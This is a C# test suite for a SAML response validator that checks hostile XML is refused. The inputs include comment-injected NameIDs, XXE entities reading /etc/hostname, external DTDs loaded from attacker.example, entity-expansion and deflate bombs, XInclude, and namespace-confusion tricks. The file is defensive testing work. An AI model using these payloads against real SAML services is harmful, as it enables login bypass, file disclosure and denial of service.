using System.IO.Compression;
using System.Text;
using OrleansIdentity.Saml.Responses;
using OrleansIdentity.Saml.Tests.Support;
using OrleansIdentity.Saml.Xml;

namespace OrleansIdentity.Saml.Tests.Attacks;

/// <summary>Rows 29 to 31, 33 and 34 of the attacks: XML that two readers understand differently, or that costs too much.</summary>
public sealed class XmlTests
{
    // Row 29.
    [Theory]
    [InlineData("owner@example.com<!-- -->.attacker.example")]
    [InlineData("owner@example.com<!---->.attacker.example")]
    [InlineData("<!-- -->owner@example.com")]
    public async Task Validate_CommentInTheName_IsRefused(string name) =>
        await Judge.RefusesAsync("saml-xml-forbidden", new Genuine { NameId = name }.Signed(), name);

    // The comment comes after signing: canonicalisation drops it, so the signature still fits.
    [Theory]
    [InlineData("name", "ada@", "ada@<!-- -->")]
    [InlineData("attribute", "00u1", "00<!-- -->u1")]
    [InlineData("digest", "<DigestValue>", "<DigestValue><!-- -->")]
    [InlineData("before", "<samlp:Response", "<!-- --><samlp:Response")]
    [InlineData("after", "</samlp:Response>", "</samlp:Response><!-- -->")]
    public async Task Validate_CommentAddedAfterSigning_IsRefused(string variant, string what, string by) => await Judge.RefusesAsync(
        "saml-xml-forbidden", new Genuine().Signed().With(xml => Doc.ReplaceOnce(xml, what, by)), variant);

    [Theory]
    [InlineData("ada@<?x ?>", "name")]
    [InlineData("<?x ?>ada@", "start")]
    public async Task Validate_ProcessingInstruction_IsRefused(string by, string variant) => await Judge.RefusesAsync(
        "saml-xml-forbidden", new Genuine().Signed().With(xml => Doc.ReplaceOnce(xml, "ada@", by)), variant);

    // Row 30.
    [Theory]
    [InlineData("<!DOCTYPE samlp:Response>")]
    [InlineData("<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/hostname\">]>")]
    [InlineData("<!DOCTYPE x SYSTEM \"https://attacker.example/x.dtd\">")]
    [InlineData("<!DOCTYPE x [<!ENTITY % p SYSTEM \"https://attacker.example/x.dtd\">%p;]>")]
    [InlineData("<!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]>")]
    [InlineData("<!DOCTYPE x [<!ATTLIST saml:Assertion ID ID #REQUIRED>]>")]
    public async Task Validate_DocumentType_IsRefused(string dtd) =>
        await Judge.RefusesAsync("saml-xml-forbidden", new Genuine().Signed().With(xml => dtd + xml), dtd);

    [Fact]
    public async Task Validate_UndeclaredEntity_IsRefused() => await Judge.RefusesAsync("saml-response-malformed", new Genuine().Signed().With(xml => xml.Replace("ada@", "&e;")));

    [Fact]
    public async Task Validate_XInclude_IsRefused() => await Judge.RefusesAsync(
        "saml-xml-forbidden",
        new Genuine { Attributes = Genuine.Attribute("x", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/hostname\" parse=\"text\"/>") }.Signed());

    // Row 31.
    [Fact]
    public async Task Validate_Oversized_IsRefused()
    {
        var value = new string('x', ResponseForm.MaxBytes);

        await Judge.RefusesAsync("saml-response-too-large", new Genuine { Attributes = Genuine.Attribute("x", value) }.Signed(), "xml");
        await Judge.RefusesAsync("saml-response-too-large", new SamlCase(new string('A', 10_000_000)), "base64");
    }

    [Fact]
    public async Task Validate_AsLargeAsAllowed_IsAccepted()
    {
        var rest = new Genuine { Attributes = Genuine.Attribute("x", "") }.Signed().ToXml().Length;

        var identity = await Judge.AcceptsAsync(new Genuine { Attributes = Genuine.Attribute("x", new string('x', ResponseForm.MaxBytes - rest)) }.Signed());

        Assert.Equal(ResponseForm.MaxBytes - rest, identity.Attributes["x"][0].Length);
    }

    [Theory]
    [InlineData(32)]
    [InlineData(20_000)]
    public async Task Validate_DeeplyNested_IsRefused(int depth)
    {
        var nested = string.Concat(Enumerable.Repeat("<x>", depth)) + string.Concat(Enumerable.Repeat("</x>", depth));

        await Judge.RefusesAsync("saml-response-malformed", SamlCase.Of(Doc.ReplaceOnce(new Genuine().Signed().ToXml(), "<samlp:Status>", $"<samlp:Status>{nested}")), $"{depth}");
    }

    [Fact]
    public async Task Validate_TooManyAttributes_IsRefused()
    {
        var many = string.Concat(Enumerable.Range(0, SafeXml.MaxAttributes + 1).Select(index => $" a{index}=\"\""));

        await Judge.RefusesAsync("saml-response-malformed", SamlCase.Of(new Genuine().Signed().ToXml().Replace("<samlp:Status>", $"<samlp:Status{many}>")));
    }

    // A response never comes by HTTP-Redirect (profiles §4.1.2), so nothing that was sent is ever inflated.
    [Fact]
    public async Task Validate_Deflated_IsRefusedWithoutInflating()
    {
        using var output = new MemoryStream();
        using (var deflate = new DeflateStream(output, CompressionLevel.Optimal))
        {
            deflate.Write(new byte[50_000_000]);
        }

        await Judge.RefusesAsync("saml-response-malformed", SamlCase.Of(output.ToArray()));
    }

    [Theory]
    [InlineData("")]
    [InlineData("  ")]
    [InlineData("====")]
    [InlineData("PHg+PA=")]
    [InlineData("PHg-_w==")]
    [InlineData("%3C")]
    public async Task Validate_NotBase64_IsRefused(string field) => await Judge.RefusesAsync("saml-response-malformed", new SamlCase(field), field);

    [Theory]
    [InlineData("<samlp:Response")]
    [InlineData("<a></b>")]
    [InlineData("<a/><a/>")]
    [InlineData("<a>&#0;</a>")]
    [InlineData("<a>&#x1F;</a>")]
    [InlineData("<p:a/>")]
    [InlineData("<a xmlns:xmlns=\"urn:x\"/>")]
    [InlineData("\uFEFF\uFEFF<a/>")]
    public async Task Validate_NotWellFormed_IsRefused(string xml) => await Judge.RefusesAsync("saml-response-malformed", SamlCase.Of(xml), xml);

    // Line breaks are part of base64 as mail has it (bindings §3.5.4).
    [Fact]
    public async Task Validate_Base64InLines_IsAccepted()
    {
        var response = new Genuine().Signed();

        await Judge.AcceptsAsync(response with { Response = string.Join("\r\n", response.Response.Chunk(76).Select(line => new string(line))) });
    }

    // Row 33.
    [Theory]
    [InlineData("default", "<saml:Assertion xmlns:saml=\"urn:oasis:names:tc:SAML:2.0:assertion\"", "<saml:Assertion xmlns:saml=\"urn:attacker\"", "saml-assertion-count")]
    [InlineData("none", "<saml:Conditions", "<Conditions xmlns=\"\"/><saml:Conditions", "saml-signature-invalid")]
    [InlineData("twice", "<samlp:Response ", "<samlp:Response ID=\"_x\" ", "saml-response-malformed")]
    [InlineData("prefixes", "<samlp:Status>", "<samlp:Status xmlns:a=\"urn:x\" xmlns:b=\"urn:x\" a:c=\"\" b:c=\"\">", "saml-response-malformed")]
    [InlineData("root", "xmlns:samlp=\"urn:oasis:names:tc:SAML:2.0:protocol\"", "xmlns:samlp=\"urn:oasis:names:tc:SAML:1.0:protocol\"", "saml-response-shape")]
    [InlineData("rebound", "<saml:Subject>", "<saml:Subject xmlns:saml=\"urn:attacker\">", "saml-signature-invalid")]
    public async Task Validate_NamespaceConfusion_IsRefused(string variant, string what, string by, string refusal) => await Judge.RefusesAsync(
        refusal, new Genuine().Signed().With(xml => Doc.ReplaceOnce(xml, what, by)), variant);

    [Theory]
    [InlineData("<saml:Subject xmlns:saml=\"urn:attacker\"/>")]
    [InlineData("<Subject xmlns=\"urn:attacker\"/>")]
    [InlineData("text")]
    public async Task Validate_ForeignContentInTheSignedAssertion_IsRefused(string content) =>
        await Judge.RefusesAsync("saml-assertion-shape", new Genuine { InAssertion = content }.Signed(), content);

    [Fact]
    public async Task Validate_AttributeTwice_IsRefused() => await Judge.RefusesAsync(
        "saml-attribute", new Genuine { InAttributeStatement = Genuine.Attribute("oktaId", "00u2") }.Signed());

    [Theory]
    [InlineData("<saml:Attribute Name=\"x\"><saml:AttributeValue><b>1</b></saml:AttributeValue></saml:Attribute>")]
    [InlineData("<saml:Attribute><saml:AttributeValue>1</saml:AttributeValue></saml:Attribute>")]
    [InlineData("<saml:Attribute Name=\"\"><saml:AttributeValue>1</saml:AttributeValue></saml:Attribute>")]
    [InlineData("<saml:Attribute Name=\"x\"><AttributeValue xmlns=\"\">1</AttributeValue></saml:Attribute>")]
    [InlineData("<Attribute Name=\"x\" xmlns=\"\"/>")]
    public async Task Validate_ImproperAttribute_IsRefused(string attribute) =>
        await Judge.RefusesAsync("saml-attribute", new Genuine { InAttributeStatement = attribute }.Signed(), attribute);

    // A condition that is not understood makes an assertion invalid (core §2.5.1).
    [Fact]
    public async Task Validate_UnknownCondition_IsRefused() => await Judge.RefusesAsync(
        "saml-conditions", new Genuine { Restrictions = Genuine.Audience(Tenant.Sp.EntityId) + "<saml:Condition xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:type=\"x\"/>" }.Signed());

    [Fact]
    public async Task Validate_OneTimeUse_IsAccepted() => await Judge.AcceptsAsync(
        new Genuine { Restrictions = Genuine.Audience(Tenant.Sp.EntityId) + "<saml:OneTimeUse/><saml:ProxyRestriction Count=\"0\"/>" }.Signed());

    // Row 34: written otherwise, the same to any parser, and canonically the same bytes.
    [Theory]
    [InlineData("cdata", "ada@example.com", "<![CDATA[ada@]]>example.com")]
    [InlineData("reference", "ada@example.com", "&#97;da&#x40;example.com")]
    [InlineData("cdata in an attribute value", "00u1", "<![CDATA[00u1]]>")]
    [InlineData("quotes", "SessionIndex=\"_request\"", "SessionIndex='_request'")]
    [InlineData("base", "<samlp:Response ", "<samlp:Response xml:base=\"https://attacker.example/\" ")]
    [InlineData("declaration", "<samlp:Response ", "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><samlp:Response ")]
    [InlineData("line break", " Version=\"2.0\"", "\r\n\tVersion=\"2.0\"")]
    public async Task Validate_WrittenOtherwise_IsReadTheSame(string variant, string what, string by)
    {
        var identity = await Judge.AcceptsAsync(new Genuine().Signed().With(xml => Doc.ReplaceOnce(xml, what, by)), variant);

        Assert.Equal(Tenant.User, identity.NameId.Value);
        Assert.Equal(["00u1"], identity.Attributes["oktaId"]);
    }

    [Fact]
    public async Task Validate_XmlBaseInTheAssertion_IsRefused() => await Judge.RefusesAsync(
        "saml-signature-invalid", new Genuine().Signed().With(xml => Doc.ReplaceOnce(xml, "<saml:Subject>", "<saml:Subject xml:base=\"https://attacker.example/\">")));

    [Theory]
    [InlineData("utf-16")]
    [InlineData("utf-7")]
    [InlineData("iso-8859-1")]
    public async Task Validate_AnotherEncodingDeclared_IsRefused(string encoding) => await Judge.RefusesAsync(
        "saml-xml-forbidden", new Genuine().Signed().With(xml => $"<?xml version=\"1.0\" encoding=\"{encoding}\"?>" + xml), encoding);

    [Theory]
    [InlineData("utf-16")]
    [InlineData("utf-32")]
    [InlineData("iso-8859-1")]
    public async Task Validate_AnotherEncodingUsed_IsRefused(string encoding) => await Judge.RefusesAsync(
        "saml-response-malformed", SamlCase.Of(Encoding.GetEncoding(encoding).GetBytes(new Genuine { NameId = "é" }.Signed().ToXml())), encoding);

    // What could cost most: many namespaces on many elements, each of which canonicalisation carries along.
    [Fact]
    public void Validate_WorstCaseWithinTheLimits_IsDecided()
    {
        var namespaces = string.Concat(Enumerable.Range(0, SafeXml.MaxAttributes - 4).Select(index => $" xmlns:n{index}=\"urn:n\""));
        var elements = string.Concat(Enumerable.Range(0, 4_000).Select(index => $"<saml:AttributeValue n{index % 60}:a=\"\">1</saml:AttributeValue>"));
        var response = new Genuine { AssertionAttributes = namespaces, Attributes = $"<saml:Attribute Name=\"x\">{elements}</saml:Attribute>" }.Signed();

        Assert.True(response.Validate().TryGet(out var identity, out var refusal), refusal?.Detail);
        Assert.Equal(4_000, identity.Attributes["x"].Count);
    }
}
